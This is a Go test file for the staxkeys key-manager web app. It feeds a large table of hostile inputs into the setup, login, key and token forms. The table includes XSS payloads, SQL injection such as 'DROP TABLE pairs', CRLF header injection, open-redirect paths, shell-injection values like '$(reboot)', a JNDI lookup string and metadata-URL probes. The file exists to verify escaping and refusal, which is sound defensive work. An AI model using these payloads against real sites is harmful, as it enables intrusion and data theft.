package web_test

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"unicode/utf8"

	"github.com/PuerkitoBio/goquery"
	"golang.org/x/crypto/argon2"

	"github.com/staxkeys/staxkeys/domain"
	"github.com/staxkeys/staxkeys/internal/apitoken"
	"github.com/staxkeys/staxkeys/internal/password"
	"github.com/staxkeys/staxkeys/keys"
)

// keyQueryNewest selects the pair added last.
var keyQueryNewest = domain.KeyQuery{Sort: "-added", Limit: 1}

// hostile is what every form field and API field is tried with: script and HTML payloads,
// SQL fragments, CR/LF, NUL and other controls, overlong strings, invalid UTF-8, look-alike
// Unicode in emails, bidirectional overrides, template and path tricks, and a value too big
// for any body. Each must be refused with an error naming the field and change nothing, or
// be stored as it was typed (trimmed) and shown as text.
var hostile = func() []string {
	v := []string{
		// Script and HTML. Every payload that could open an element carries a probe marker.
		`<script>alert(1)</script>`,
		`<script data-probe>alert(1)</script>`,
		`"><script data-probe>alert(1)</script>`,
		`'><img data-probe src=x onerror=alert(1)>`,
		`<img src=x onerror=alert(1) data-probe>`,
		`<svg onload=alert(1) data-probe>`,
		`<svg/onload=alert(1)>`,
		`<iframe srcdoc="<script>alert(1)</script>" data-probe></iframe>`,
		`<a href="javascript:alert(1)" data-probe>click</a>`,
		`javascript:alert(1)`,
		`<body onload=alert(1)>`,
		`<details open ontoggle=alert(1) data-probe>`,
		`<input autofocus onfocus=alert(1) data-probe>`,
		`" onmouseover="alert(1)" data-probe="`,
		`' onmouseover='alert(1)' data-probe='`,
		`</textarea><script data-probe>alert(1)</script>`,
		`</title><script data-probe>alert(1)</script>`,
		`</script><script data-probe>alert(1)</script>`,
		`<style data-probe>*{display:none}</style>`,
		`<base href="https://evil.example/" data-probe>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/" data-probe>`,
		`<probe>text</probe>`,
		`<div hx-get="/logout" hx-trigger="load" data-probe>`,
		`<form action="https://evil.example/" data-probe><button formaction="https://evil.example/">x</button></form>`,
		`<math data-probe><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		`<!--`, `-->`, `<![CDATA[x]]>`, `&lt;script&gt;`, `&#x3C;script&#x3E;`, `&amp;`,
		`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `#{7*7}`, `{{ .Secret }}`,
		// SQL.
		`' OR '1'='1`,
		`'; DROP TABLE pairs; --`,
		`1; DELETE FROM admins`,
		`" OR ""="`,
		`') OR 1=1 --`,
		`1 UNION SELECT password_hash FROM admins`,
		`' || (SELECT key_sealed FROM pairs) || '`,
		`%`, `_`, `%%`, `\`, `\%`, `%' --`, `*`,
		`x'or'1'='1@example.com`,
		`admin'--@example.com`,
		`sk_live_' OR '1'='1'--`,
		`sk_live_0123456789abcdef'; DROP TABLE pairs; --`,
		// Line breaks, NUL and other controls.
		"a\r\nb",
		"\r\nSet-Cookie: session=stolen",
		"a@example.com\r\nBcc: evil@example.com",
		"sk_live_0123456789abcdef\r\nX-Injected: 1",
		"line\nbreak",
		"carriage\rreturn",
		"a\x00b", "\x00",
		"sk_live_0123456789\x00abcdef",
		"\x1b[31mred\x1b[0m",
		"tab\there",
		"\x7f", "\b", "\v\f",
		"\u0085next line",
		"\u2028line separator", "\u2029paragraph separator",
		"%0d%0aSet-Cookie:x=y",
		// Paths that try to leave the site (for the login's next).
		"//evil.example/", "/\\evil.example/", "/\t/evil.example/", "/\x00//evil.example/", "/\x7f", "/%2F%2Fevil.example",
		"/\r\nSet-Cookie: x=y", "/user:pass@evil.example", "/\u2028//evil.example",
		// Overlong: just over each limit, and far over.
		strings.Repeat("x", 101),
		strings.Repeat("é", 101),
		strings.Repeat("🔑", 101),
		strings.Repeat("e\u0301", 60),
		strings.Repeat("a", 243) + "@example.com", // 255 bytes
		strings.Repeat("k", 257),
		strings.Repeat("x", 1025),
		strings.Repeat("x", 10_000),
		strings.Repeat("<b data-probe>", 2000),
		// Invalid UTF-8.
		"\xff", "\xfe\xff", "\xc3\x28", "\xe2\x82", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "a\x80b",
		"sk_live_0123456789abcd\xff",
		"admin\xff@example.com",
		// Look-alike Unicode in emails.
		"аdmin@example.com", // Cyrillic а
		"admin@exаmple.com", // Cyrillic а in the domain
		"admin@example.cоm", // Cyrillic о
		"ａｄｍｉｎ@example.com", // full width
		"admin＠example.com", // full-width at sign
		"admın@example.com", // dotless i
		"admin@example.com\u200b",
		"\u200badmin@example.com",
		"admin@xn--exmple-cua.com",
		"ADMIN@EXAMPLE.COM",
		"admin@example.com.",
		"admin@@example.com",
		"admin@localhost",
		"admin@[127.0.0.1]",
		"\"admin\"@example.com",
		"Admin <admin@example.com>",
		"admin@example.com,evil@example.com",
		"admin@example.com evil@example.com",
		// Bidirectional overrides and other invisible characters.
		"\u202egnp.exe",
		"billing\u202e moc.elpmaxe",
		"\u2066isolate\u2069",
		"\u202a\u202b\u202c\u202d",
		"\u200fRLM mark",
		"\u061carabic letter mark",
		"\ufeffBOM",
		"zero\u200bwidth",
		"\ufffd",
		// Odd but harmless, to be stored as typed.
		"", " ", "   padded   ", "null", "undefined", "true", "0", "-1", "NaN", "[]", "{}",
		"../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
		"${jndi:ldap://evil.example/a}", "|| ls", "$(reboot)", "`id`",
		"🔑 Keys", "Ω≈ç√∫", "Z̴̛̙͎a̵̲̕l̶̢̛g̷̟̕o̶̙͝", "日本語のラベル", "שלום עולם", "مرحبا",
	}
	// Bigger than any body staxkeys accepts (forms 256 KiB, API 64 KiB).
	v = append(v, strings.Repeat("A", 300<<10))
	return v
}()

func TestHostileTableSize(t *testing.T) {
	if len(hostile) < 100 {
		t.Fatalf("only %d hostile values", len(hostile))
	}
	t.Logf("%d hostile values", len(hostile))
}

// hostileName shortens a value for a subtest name.
func hostileName(i int, v string) string {
	s := fmt.Sprintf("%03d_%q", i, v)
	if len(s) > 40 {
		s = s[:40]
	}
	return s
}

// roundTrips reports whether v survives an HTML round trip byte for byte: valid UTF-8 without the
// controls an HTML parser rewrites (NUL, CR).
func roundTrips(v string) bool {
	return utf8.ValidString(v) && !strings.ContainsAny(v, "\x00\r\f")
}

// dangerous are selectors an injected payload would create (every HTML payload above carries
// a probe marker or an on* handler); a page may hold no more of them, or of on* attributes,
// than the same page without the payload, which is to say none.
var dangerous = []string{
	"script:not([src])", "iframe", "frame", "object", "embed", "base", "meta[http-equiv]",
	"probe", "[data-probe]", "[srcdoc]", "[formaction]", `a[href^="javascript:"]`, `[href^="data:"]`,
}

func dangerCounts(doc *goquery.Document) map[string]int {
	out := map[string]int{}
	for _, sel := range dangerous {
		out[sel] = doc.Find(sel).Length()
	}
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			if strings.HasPrefix(strings.ToLower(a.Key), "on") {
				out["on* attribute"]++
			}
		}
	})
	return out
}

// assertInert fails if p holds more of anything dangerous than baseline did.
func assertInert(t *testing.T, p *Page, baseline map[string]int) {
	t.Helper()
	if p.Doc == nil {
		return
	}
	for sel, n := range dangerCounts(p.Doc) {
		if n > baseline[sel] {
			t.Errorf("%s %s: %d × %s, the page without the value has %d: the value was not escaped",
				p.Request.Method, p.Request.URL.Path, n, sel, baseline[sel])
		}
	}
}

// dbDump sums up every row of the tables a refused request must leave alone: admins, pairs,
// sessions and tokens (the audit trail and token use times may move).
func dbDump(t *testing.T, e *Env) string {
	t.Helper()
	db := readOnlyDB(t, e)
	var b strings.Builder
	for _, tq := range [][2]string{
		{"admins", "SELECT * FROM admins ORDER BY id"},
		{"pairs", "SELECT * FROM pairs ORDER BY id"},
		{"sessions", "SELECT id_hash, admin_id, created_at FROM sessions ORDER BY id_hash"},
		{"api_tokens", "SELECT id, name, prefix, hash, read_only, created_at, created_by, revoked_at FROM api_tokens ORDER BY id"},
	} {
		table, q := tq[0], tq[1]
		rows, err := db.Query(q)
		if err != nil {
			t.Fatal(err)
		}
		cols, _ := rows.Columns()
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		h := sha256.New()
		n := 0
		for rows.Next() {
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			n++
			for _, v := range vals {
				// Each value length-prefixed, so no two tables of values hash alike.
				var raw []byte
				switch v := v.(type) {
				case nil:
					raw = []byte{0xff}
				case []byte:
					raw = v
				case string:
					raw = []byte(v)
				default:
					raw = fmt.Append(nil, v)
				}
				h.Write(binary.BigEndian.AppendUint64(nil, uint64(len(raw))))
				h.Write(raw)
			}
		}
		if err := rows.Err(); err != nil {
			t.Fatal(err)
		}
		rows.Close()
		fmt.Fprintf(&b, "%s: %d rows, %x\n", table, n, h.Sum(nil)[:8])
	}
	return b.String()
}

// readOnlyDBs keeps one read-only connection pool per database for dbDump.
var readOnlyDBs sync.Map // path -> *sql.DB

func readOnlyDB(t *testing.T, e *Env) *sql.DB {
	t.Helper()
	if db, ok := readOnlyDBs.Load(e.DB.Path()); ok {
		return db.(*sql.DB)
	}
	db, err := sql.Open("sqlite", "file:"+e.DB.Path()+"?mode=ro&_pragma=busy_timeout(5000)")
	if err != nil {
		t.Fatal(err)
	}
	readOnlyDBs.Store(e.DB.Path(), db)
	t.Cleanup(func() {
		readOnlyDBs.Delete(e.DB.Path())
		db.Close()
	})
	return db
}

// refusedOrStored checks a form answer: a refusal (413 for a too-big body, or 422/409 with the
// form shown again and the field marked) must leave the database as it was.
func refusedOrStored(t *testing.T, e *Env, p *Page, before string, fields ...string) (stored bool) {
	t.Helper()
	switch p.StatusCode {
	case http.StatusSeeOther:
		return true
	case http.StatusRequestEntityTooLarge:
		if p.Doc == nil || p.TestID("error-page").Length() != 1 {
			t.Errorf("413 without the error page: %.200s", p.HTML)
		}
	case http.StatusUnprocessableEntity, http.StatusConflict:
		marked := false
		for _, f := range fields {
			marked = marked || p.Marked(f)
		}
		if !marked {
			t.Errorf("%d, but none of %v is marked with a message", p.StatusCode, fields)
		}
	default:
		t.Errorf("answered %d: %.300s", p.StatusCode, p.HTML)
	}
	if after := dbDump(t, e); after != before {
		t.Errorf("a refused form changed the database:\n%s\nto\n%s", before, after)
	}
	return false
}

var hostileKeySeq atomic.Int64

// freshHostileKey is a valid key no other pair holds.
func freshHostileKey() string { return fmt.Sprintf("sk_live_HOSTILE_%06d_key", hostileKeySeq.Add(1)) }

func TestHostileSetupForm(t *testing.T) {
	t.Parallel()
	e := newTestServer(t)
	c := e.NewClient(t)
	base := c.Get("/setup").Expect(http.StatusOK)
	baseline := dangerCounts(base.Doc)
	const good, other = "a perfectly fine passphrase", "another fine passphrase"
	for _, field := range []string{"email", "password", "password2"} {
		t.Run(field, func(t *testing.T) {
			for i, v := range hostile {
				c := c.For(t)
				// The passwords never match, so no value can finish setup: each answer is
				// the form again, naming what is wrong.
				form := url.Values{"email": {"first@example.com"}, "password": {good}, "password2": {other}}
				form.Set(field, v)
				if field == "password" {
					form.Set("password2", v+"!")
				}
				before := dbDump(t, e)
				p := c.Submit("/setup", form)
				if refusedOrStored(t, e, p, before, "email", "password", "password2") {
					t.Fatalf("%s: setup succeeded", hostileName(i, v))
				}
				assertInert(t, p, baseline)
				if p.StatusCode != http.StatusUnprocessableEntity {
					continue
				}
				want := "password2"
				switch {
				case field == "email" && keys.CheckEmail(strings.TrimSpace(v)) != "":
					want = "email"
				case field == "password" && password.Check(v) != "":
					want = "password"
				}
				if !p.Marked(want) {
					t.Errorf("%s: %s not marked", hostileName(i, v), want)
				}
				if field == "email" && roundTrips(v) && p.Value("email") != strings.TrimSpace(v) {
					t.Errorf("%s: email shown again as %q", hostileName(i, v), p.Value("email"))
				}
				if p.Value("password") != "" || p.Value("password2") != "" {
					t.Errorf("%s: a password was echoed into the form", hostileName(i, v))
				}
			}
		})
	}
	if n, _ := e.DB.CountAdmins(context.Background()); n != 0 {
		t.Fatalf("%d admins after hostile setups", n)
	}
}

// createCheapAdmin adds AdminEmail with AdminPassword hashed at argon2id's lowest cost, so a
// test can log in a hundred times quickly; Verify honours the parameters a hash carries.
func createCheapAdmin(t *testing.T, e *Env) {
	t.Helper()
	salt := []byte("0123456789abcdef")
	sum := argon2.IDKey([]byte(AdminPassword), salt, 1, 64, 1, 32)
	b64 := base64.RawStdEncoding
	hash := fmt.Sprintf("$argon2id$v=%d$m=64,t=1,p=1$%s$%s", argon2.Version, b64.EncodeToString(salt), b64.EncodeToString(sum))
	if ok, err := password.Verify(AdminPassword, hash); !ok || err != nil {
		t.Fatalf("the cheap hash does not verify: %v", err)
	}
	if _, err := e.DB.CreateAdmin(context.Background(), AdminEmail, hash, domain.RoleAdmin); err != nil {
		t.Fatal(err)
	}
}

func TestHostileLoginForm(t *testing.T) {
	t.Parallel()
	t.Run("email and password", func(t *testing.T) {
		e := newTestServer(t)
		createCheapAdmin(t, e)
		c := e.NewClient(t)
		baseline := dangerCounts(c.Get("/login").Expect(http.StatusOK).Doc)
		for _, field := range []string{"email", "password"} {
			for i, v := range hostile {
				form := url.Values{"email": {AdminEmail}, "password": {"not the password"}}
				form.Set(field, v)
				before := dbDump(t, e)
				p := c.Submit("/login", form)
				switch p.StatusCode {
				case http.StatusUnauthorized, http.StatusTooManyRequests:
					if got := p.Text("login-error"); got == "" {
						t.Errorf("%s %s: no message", field, hostileName(i, v))
					}
					if field == "email" && roundTrips(v) && p.Value("email") != strings.TrimSpace(v) {
						t.Errorf("%s: email shown again as %q", hostileName(i, v), p.Value("email"))
					}
				case http.StatusRequestEntityTooLarge:
				default:
					t.Errorf("%s %s: login answered %d", field, hostileName(i, v), p.StatusCode)
				}
				assertInert(t, p, baseline)
				if after := dbDump(t, e); after != before {
					t.Fatalf("%s %s: a failed login changed the database", field, hostileName(i, v))
				}
				if c.Cookie(sessionCookie) != "" {
					t.Fatalf("%s %s: a session cookie was set", field, hostileName(i, v))
				}
			}
		}
	})
	t.Run("next", func(t *testing.T) {
		e := newTestServer(t)
		createCheapAdmin(t, e)
		baseline := dangerCounts(e.NewClient(t).Get("/login").Expect(http.StatusOK).Doc)
		site, _ := url.Parse(e.TS.URL)
		for i, v := range hostile {
			t.Run(hostileName(i, v), func(t *testing.T) {
				t.Parallel()
				c := e.NewClient(t)
				form := c.Get("/login?next=" + url.QueryEscape(v))
				if form.StatusCode == http.StatusOK {
					assertInert(t, form, baseline)
				}
				p := c.Submit("/login", url.Values{"email": {AdminEmail}, "password": {AdminPassword}, "next": {v}})
				if p.StatusCode == http.StatusRequestEntityTooLarge {
					return
				}
				p.Expect(http.StatusSeeOther)
				loc := p.Location()
				if loc != "/" && loc != v {
					t.Fatalf("redirected to %q", loc)
				}
				seen := strings.NewReplacer("\t", "", "\n", "", "\r", "", "\\", "/").Replace(loc)
				u, err := site.Parse(seen)
				if strings.HasPrefix(seen, "//") || err != nil || u.Host != site.Host {
					t.Fatalf("redirected off the site: %q", loc)
				}
			})
		}
	})
}

// keyForm submits the add or edit form with one field replaced by v and checks the outcome.
type keyFormCase struct {
	e        *Env
	c        *Client
	path     string // /keys or /keys/ID
	edit     int64  // the pair edited, 0 when adding
	baseline map[string]int
}

func (pc keyFormCase) try(t *testing.T, field string, i int, v string) {
	t.Helper()
	c := pc.c.For(t)
	form := url.Values{"label": {"Hostile test"}, "email": {"hostile@example.com"}, "key": {freshHostileKey()}}
	form.Set(field, v)
	prevKey := ""
	if pc.edit != 0 {
		prevKey = pc.e.storedKey(t, pc.edit)
	}
	before := dbDump(t, pc.e)
	p := c.Submit(pc.path, form)
	if !refusedOrStored(t, pc.e, p, before, field) {
		assertInert(t, p, pc.baseline)
		if p.StatusCode == http.StatusUnprocessableEntity {
			if !p.Marked(field) {
				t.Errorf("%s %s: refused, but the field is not marked", field, hostileName(i, v))
			}
			if field != "key" && roundTrips(v) && p.Value(field) != v {
				t.Errorf("%s %s: shown again as %q", field, hostileName(i, v), p.Value(field))
			}
			if field == "key" && len(v) > 4 && strings.Contains(p.HTML, v) {
				t.Errorf("%s: the typed key is in the page", hostileName(i, v))
			}
		}
		return
	}
	// Stored: exactly as typed, trimmed, and shown only as text.
	want := keys.Input{Label: strings.TrimSpace(form.Get("label")), Email: strings.TrimSpace(form.Get("email")), Key: strings.TrimSpace(form.Get("key"))}
	if want.Key == "" {
		want.Key = prevKey // an empty key on edit keeps the stored one
	}
	id := pc.edit
	if id == 0 {
		res, err := pc.e.DB.ListKeys(context.Background(), keyQueryNewest)
		if err != nil || len(res.Keys) == 0 {
			t.Fatalf("%s %s: accepted, but no pair: %v", field, hostileName(i, v), err)
		}
		id = res.Keys[0].ID
	}
	got, err := pc.e.DB.KeyByID(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if got.Label != want.Label || got.Email != want.Email || pc.e.storedKey(t, id) != want.Key {
		t.Errorf("%s %s: stored as %q %q, want %q %q", field, hostileName(i, v), got.Label, got.Email, want.Label, want.Email)
	}
	detail := c.Get(fmt.Sprint("/keys/", id)).Expect(http.StatusOK)
	assertInert(t, detail, pc.baseline)
	if roundTrips(want.Label) && want.Label != "" {
		if h := strings.TrimSpace(detail.Find(`[data-testid="pair-detail"] h1`).Text()); h != want.Label {
			t.Errorf("%s %s: the page title shows %q", field, hostileName(i, v), h)
		}
	}
	if got := detail.Text("detail-email"); got != want.Email {
		t.Errorf("%s %s: the page shows the email %q", field, hostileName(i, v), got)
	}
	if strings.Contains(detail.HTML, want.Key) {
		t.Errorf("%s %s: the key is in the page", field, hostileName(i, v))
	}
	assertInert(t, c.Get(fmt.Sprint("/keys/", id, "/edit")).Expect(http.StatusOK), pc.baseline)
	assertInert(t, c.Get(fmt.Sprint("/keys/", id, "/delete")).Expect(http.StatusOK), pc.baseline)
}

func TestHostileKeyForms(t *testing.T) {
	t.Parallel()
	e := newTestServer(t)
	c := e.LoggedIn(t)
	baseline := dangerCounts(c.Get("/keys/new").Expect(http.StatusOK).Doc)
	for _, sel := range []string{"/"} {
		for k, n := range dangerCounts(c.Get(sel).Expect(http.StatusOK).Doc) {
			baseline[k] = max(baseline[k], n)
		}
	}
	edited := e.mustAdd(t, "Edited", "edited@example.com", key1)
	for _, field := range []string{"label", "email", "key"} {
		t.Run("add/"+field, func(t *testing.T) {
			pc := keyFormCase{e: e, c: c, path: "/keys", baseline: baseline}
			for i, v := range hostile {
				pc.try(t, field, i, v)
			}
		})
		t.Run("edit/"+field, func(t *testing.T) {
			pc := keyFormCase{e: e, c: c, path: fmt.Sprint("/keys/", edited.ID), edit: edited.ID, baseline: baseline}
			for i, v := range hostile {
				pc.try(t, field, i, v)
			}
		})
	}
	t.Run("the dashboard with every stored value", func(t *testing.T) {
		c := c.For(t)
		for page := 1; ; page++ {
			p := c.Get(fmt.Sprint("/?sort=added&page=", page)).Expect(http.StatusOK)
			assertInert(t, p, baseline)
			rows := p.TestID("pair-row")
			if rows.Length() == 0 {
				break
			}
			rows.Each(func(_ int, s *goquery.Selection) {
				email := strings.TrimSpace(s.Find(`[data-testid="pair-email"]`).Text())
				if email == "" {
					t.Error("a row without its email")
				}
			})
		}
	})
}

func TestHostileTokenForm(t *testing.T) {
	t.Parallel()
	e := newTestServer(t)
	c := e.LoggedIn(t)
	baseline := dangerCounts(c.Get("/tokens").Expect(http.StatusOK).Doc)
	for i, v := range hostile {
		before := dbDump(t, e)
		p := c.Submit("/tokens", url.Values{"name": {v}, "your_password": {AdminPassword}})
		switch p.StatusCode {
		case http.StatusCreated:
			tokens, err := e.DB.ListTokens(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if got := tokens[0].Name; got != strings.TrimSpace(v) {
				t.Errorf("%s: stored as %q", hostileName(i, v), got)
			}
			if apitoken.CheckName(strings.TrimSpace(v)) != "" {
				t.Errorf("%s: stored although CheckName refuses it", hostileName(i, v))
			}
		default:
			refusedOrStored(t, e, p, before, "name")
		}
		assertInert(t, p, baseline)
	}
	p := c.Get("/tokens").Expect(http.StatusOK)
	assertInert(t, p, baseline)
	var names []string
	p.TestID("token-row").Each(func(_ int, s *goquery.Selection) { names = append(names, s.Find("td").First().Text()) })
	for i, v := range hostile {
		v = strings.TrimSpace(v)
		if apitoken.CheckName(v) != "" || !roundTrips(v) {
			continue
		}
		found := false
		for _, n := range names {
			found = found || n == v
		}
		if !found {
			t.Errorf("%s: the token name is not shown as text", hostileName(i, v))
		}
	}
}
